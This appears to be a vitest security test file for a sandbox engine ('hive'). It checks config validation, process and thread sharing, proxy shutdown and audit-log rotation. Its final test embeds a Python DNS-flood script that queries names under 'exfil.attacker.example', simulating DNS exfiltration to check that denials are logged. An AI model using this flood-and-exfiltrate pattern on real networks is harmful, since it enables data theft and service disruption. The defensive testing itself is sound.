// Attacks on the engine and its JS boundary, each test named after the attack it checks: configs
// that JSON cannot carry, configs that look right but say something else, two processes or two
// threads sharing a sandbox, and the host proxy's `close` taken off its object. Run by CI as root
// and again as an unprivileged user.
import { spawn as hostSpawn } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import net from 'node:net'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { Worker } from 'node:worker_threads'
import { afterAll, describe, expect, it } from 'vitest'

import { deleteSandbox, getOrCreateSandbox } from '../index.js'
import { rejection, useTempHome } from './helpers/home.js'

const home = useTempHome()
const entry = fileURLToPath(new URL('../index.js', import.meta.url))

afterAll(() => home.cleanup())

const rule = (extra: Record<string, unknown>) => ({ access: 'allow', host: 'api.example.com', ...extra })

function cyclic() {
  const r: Record<string, unknown> = rule({})
  r.self = r
  return { egress: [r] }
}

function throwingGetter() {
  const r = { access: 'allow' }
  Object.defineProperty(r, 'host', { enumerable: true, get: () => { throw new Error('boom') } })
  return { egress: [r] }
}

// [name, config, the path an issue must name]
const unrepresentable: [string, () => unknown, string][] = [
  ['NaN port', () => ({ egress: [rule({ ports: [NaN] })] }), 'egress[0].ports[0]'],
  ['Infinity port', () => ({ egress: [rule({ ports: [Infinity] })] }), 'egress[0].ports[0]'],
  ['function host', () => ({ egress: [{ access: 'allow', host: () => 'api.example.com' }] }), 'egress[0].host'],
  ['symbol access', () => ({ egress: [{ access: Symbol('allow'), host: 'api.example.com' }] }), 'egress[0].access'],
  ['BigInt port', () => ({ egress: [rule({ ports: [443n] })] }), 'egress[0].ports[0]'],
  ['throwing getter', throwingGetter, 'egress[0].host'],
  ['cyclic rule', cyclic, 'egress[0].self'],
  ['Map for resolve', () => ({ upstream: { resolve: new Map([['a.example:443', '127.0.0.1:1']]) } }), 'upstream.resolve'],
  ['Date for a mount', () => ({ fs: [{ backend: 'local', mount: new Date() }] }), 'fs[0].mount'],
  ['hole in ports', () => ({ egress: [rule({ ports: [443, , 80] })] }), 'egress[0].ports[1]'],
  ['NaN config', () => NaN, ''],
  ['audit.maxBytes NaN', () => ({ audit: { maxBytes: NaN } }), 'audit.maxBytes'],
]

describe('configs JSON cannot carry', () => {
  it.each(unrepresentable)('%s is HIVE_INVALID_CONFIG with its path, from getOrCreateSandbox and applyConfig', async (_name, config, path) => {
    const created = await rejection(getOrCreateSandbox('bad-input', config() as never))
    expect(created.code).toBe('HIVE_INVALID_CONFIG')
    expect(created.issues?.map((i) => i.path)).toContain(path)
    const sandbox = await getOrCreateSandbox('bad-input')
    const applied = await rejection(sandbox.applyConfig(config() as never))
    expect(applied.code).toBe('HIVE_INVALID_CONFIG')
    expect(applied.issues?.map((i) => i.path)).toContain(path)
    await sandbox.close()
  })
})

describe('configs that say something other than they seem', () => {
  // [name, config, path, words the message must contain]
  const cases: [string, () => unknown, string, string][] = [
    [
      'an unset environment variable as a credential',
      () => ({ egress: [rule({}), rule({ host: 'api.finnhub.io', override: { headers: { 'X-Finnhub-Token': process.env.HIVE_TEST_UNSET_VARIABLE } } })] }),
      'egress[1].override.headers["X-Finnhub-Token"]',
      'expected a string, got undefined (is the environment variable set?)',
    ],
    ['a URL as the host', () => ({ egress: [rule({ host: 'https://api.github.com' })] }), 'egress[0].host', 'a host, not a URL'],
    ['a host with a path', () => ({ egress: [rule({ host: 'api.github.com/v1' })] }), 'egress[0].host', 'a host, not a URL'],
    ['a host with a port', () => ({ egress: [rule({ host: 'x:443' })] }), 'egress[0].host', 'put the port in ports'],
    ['a source that does not exist', () => ({ fs: [{ backend: 'local', mount: '/w', source: join(home.dir, 'no-such-dir') }] }), 'fs[0].source', 'does not exist'],
    ['audit.maxBytes too small to hold an event', () => ({ audit: { maxBytes: 1 } }), 'audit.maxBytes', 'expected an integer'],
  ]
  it.each(cases)('%s is refused at config time', async (_name, config, path, words) => {
    const error = await rejection(getOrCreateSandbox('misleading', config() as never))
    expect(error.code).toBe('HIVE_INVALID_CONFIG')
    const issue = error.issues?.find((i) => i.path === path)
    expect(issue?.message, JSON.stringify(error.issues)).toContain(words)
    expect(error.message).toContain(words)
    const sandbox = await getOrCreateSandbox('misleading')
    expect((await rejection(sandbox.applyConfig(config() as never))).code).toBe('HIVE_INVALID_CONFIG')
    await sandbox.close()
  })

  it('takes audit retention and shows it in getConfig', async () => {
    const sandbox = await getOrCreateSandbox('audit-retention', { audit: { maxBytes: 1 << 20, keep: 3 } })
    expect((await sandbox.getConfig()).audit).toEqual({ maxBytes: 1 << 20, keep: 3 })
    await sandbox.close()
  })
})

describe('sandbox.proxy() destructured', () => {
  it('close taken off the object still closes the listener', async () => {
    const sandbox = await getOrCreateSandbox('proxy-destructured')
    const { url, ca, close } = await sandbox.proxy()
    expect(ca).toContain('BEGIN CERTIFICATE')
    const port = Number(new URL(url).port)
    await close()
    const refused = await new Promise<boolean>((resolve) => {
      const socket = net.connect(port, '127.0.0.1')
      socket.on('connect', () => { socket.destroy(); resolve(false) })
      socket.on('error', () => resolve(true))
    })
    expect(refused).toBe(true)
    await sandbox.close()
  })
})

describe('two processes, one sandbox name', () => {
  it('the second process gets HIVE_SANDBOX_BUSY naming the holder, and the name is free once it exits', async () => {
    const script = `
      const { getOrCreateSandbox } = require(${JSON.stringify(entry)});
      getOrCreateSandbox('shared-name').then(() => console.log('ready'), (e) => { console.log('failed ' + e.code); process.exit(1) });
      setInterval(() => {}, 1000);
    `
    const holder = hostSpawn(process.execPath, ['-e', script], { env: { ...process.env, HIVE_HOME: home.dir }, stdio: ['ignore', 'pipe', 'inherit'] })
    try {
      const first = await new Promise<string>((resolve) => holder.stdout.once('data', (d) => resolve(String(d).trim())))
      expect(first).toBe('ready')
      const busy = await rejection(getOrCreateSandbox('shared-name'))
      expect(busy.code).toBe('HIVE_SANDBOX_BUSY')
      expect(busy.message).toContain(`pid ${holder.pid}`)
      expect((await rejection(deleteSandbox('shared-name'))).code).toBe('HIVE_SANDBOX_BUSY')
    } finally {
      const exited = new Promise((resolve) => holder.once('exit', resolve))
      holder.kill('SIGKILL')
      await exited
    }
    const sandbox = await getOrCreateSandbox('shared-name')
    await sandbox.applyConfig({ egress: [] })
    await sandbox.close()
    const ids = readFileSync(join(home.dir, 'sandboxes', 'shared-name', 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).id)
    expect(new Set(ids).size).toBe(ids.length)
  })
})

describe('a worker thread exits', () => {
  it('closes only the sandbox the worker abandoned; the main thread keeps running commands', async () => {
    const main = await getOrCreateSandbox('main-thread')
    expect((await main.exec('echo before')).stdout.trim()).toBe('before')
    const code = `
      const { parentPort } = require('node:worker_threads');
      const { getOrCreateSandbox } = require(${JSON.stringify(entry)});
      (async () => {
        const abandoned = await getOrCreateSandbox('worker-thread');
        await abandoned.exec('true');
        parentPort.postMessage('created');
      })().catch((e) => parentPort.postMessage('failed ' + e.message));
    `
    const worker = new Worker(code, { eval: true })
    const said = await new Promise<string>((resolve, reject) => {
      worker.once('message', resolve)
      worker.once('error', reject)
    })
    expect(said).toBe('created')
    await worker.terminate()
    const log = join(home.dir, 'sandboxes', 'worker-thread', 'audit.jsonl')
    const deadline = Date.now() + 10_000
    while (!(existsSync(log) && readFileSync(log, 'utf8').includes('"sandbox.closed"')) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 50))
    }
    expect(readFileSync(log, 'utf8')).toContain('"sandbox.closed"')
    expect(main.closed).toBe(false)
    expect((await main.exec('echo after')).stdout.trim()).toBe('after')
    await main.close()
  })
})

describe('flushing the audit log with denials', () => {
  it('a flood of denied DNS queries from inside does not rotate away an earlier allowed lookup or config change', async () => {
    // 30 000 distinct denied names, about 4.5 MB of events written one by one: over twice what
    // a 1 MiB log and one rotated file hold (as 30 s of a 6 MB/s flood is to the default 2 × 64 MiB).
    const sandbox = await getOrCreateSandbox('dns-flood', {
      audit: { maxBytes: 1 << 20, keep: 1 },
      egress: [{ access: 'allow', host: 'allowed.example' }],
    })
    const script = `import socket,struct
def q(i,name):
    return struct.pack(">HHHHHH",i&0xffff,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",1,1)
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.settimeout(2)
u.sendto(q(1,"allowed.example"),("127.0.0.1",53));print("allowed",u.recv(512)[3]&15)
u.settimeout(1)
answered=0
for b in range(300):
    for i in range(b*100,b*100+100): u.sendto(q(i,"%d.exfil.attacker.example"%i),("127.0.0.1",53))
    try:
        for _ in range(100): u.recv(512); answered+=1
    except socket.timeout: pass
print("sent",answered>25000)
`
    const run = await sandbox.exec(['/usr/bin/python3', '-c', script])
    expect(run.stdout, run.stderr).toBe('allowed 0\nsent True\n')
    await sandbox.close()
    const dir = join(home.dir, 'sandboxes', 'dns-flood')
    const events = ['audit.jsonl.1', 'audit.jsonl']
      .filter((f) => existsSync(join(dir, f)))
      .flatMap((f) => readFileSync(join(dir, f), 'utf8').trim().split('\n'))
      .map((line) => JSON.parse(line))
    expect(events).toContainEqual(expect.objectContaining({ type: 'dns.query', name: 'allowed.example', access: 'allowed' }))
    expect(events).toContainEqual(expect.objectContaining({ type: 'config.applied' }))
    const denials = events
      .filter((e) => (e.type === 'dns.query' && e.access === 'denied') || e.type === 'events.suppressed')
      .reduce((n, e) => n + (e.count ?? 1), 0)
    expect(denials).toBeGreaterThan(25_000)
    expect(events.some((e) => e.type === 'events.suppressed')).toBe(true)
  })
})
